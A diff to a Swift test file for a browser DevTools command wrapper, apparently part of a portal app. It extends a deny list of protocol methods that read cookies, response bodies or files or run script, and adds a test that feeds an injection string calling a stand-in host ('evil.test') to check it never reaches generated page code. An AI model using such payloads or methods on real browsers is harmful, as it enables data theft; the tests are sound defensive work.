@@ -22,12 +22,34 @@ import Testing
   @Test func `name no method that carries bytes out, sets files, runs text or grants rights`() {
     let methods = Set(DevToolsCommand.examples.map(\.method))
     let never = [
-      "Runtime.evaluate", "Runtime.callFunctionOn", "IO.read", "Page.printToPDF", "Page.captureSnapshot",
+      "Runtime.evaluate", "Runtime.compileScript", "Runtime.enable", "IO.read", "Page.printToPDF",
+      "Page.captureSnapshot",
       "Page.captureScreenshot", "Network.getResponseBody", "DOM.setFileInputFiles", "Input.dispatchDragEvent",
       "Browser.grantPermissions", "Browser.setPermission", "Extensions.loadUnpacked", "Fetch.enable",
       "Page.setInterceptFileChooserDialog", "Storage.getCookies", "Target.exposeDevToolsProtocol",
     ]
     for method in never { #expect(!methods.contains(method)) }
+  }
+
+  @Test func `run only functions of the portal's own, with a person's text beside them and never in them`()
+    throws
+  {
+    let hostile = "'); fetch('http://evil.test/'); ('"
+    var sources: Set<String> = []
+    for function in [PageFunction.find(hostile, backwards: true), .find("", backwards: false), .selection] {
+      let value = try JSONValue(
+        parsing: DevToolsCommand.call(function, world: 7).encoded(id: 1, session: "s"))
+      let source = try #require(value["params"]?["functionDeclaration"]?.text)
+      #expect(!source.contains("evil"))
+      #expect(value["params"]?["executionContextId"] == 7)
+      sources.insert(source)
+    }
+    #expect(sources.count == 2)
+    // Whatever else carries script carries the portal's.
+    for command in DevToolsCommand.examples where command.method == "Page.addScriptToEvaluateOnNewDocument" {
+      let value = try JSONValue(parsing: command.encoded(id: 1, session: nil))
+      #expect([PageStyle.script, PageWatcher.script].contains(value["params"]?["source"]?.text))
+    }
   }
 
   @Test func `refuse downloads, and let no key name an editor command`() throws {
